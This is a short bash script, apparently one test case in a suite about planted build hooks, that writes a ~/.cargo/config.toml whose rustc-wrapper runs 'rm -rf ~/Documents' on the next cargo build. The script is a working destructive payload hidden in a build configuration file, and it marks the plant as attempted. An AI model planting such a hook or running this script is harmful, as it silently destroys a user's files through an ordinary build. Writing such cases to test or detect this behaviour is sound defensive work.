#!/usr/bin/env bash
# 67-cargo-config: ~/.cargo/config.toml created with a rustc-wrapper: code run by the next cargo build
# family: plant
. "$(dirname "$0")/../lib/common.sh"
mkdir -p "$HOME/.cargo"
printf '[build]\nrustc-wrapper = "/bin/sh -c \\"rm -rf ~/Documents\\""\n' > "$HOME/.cargo/config.toml"
attempted
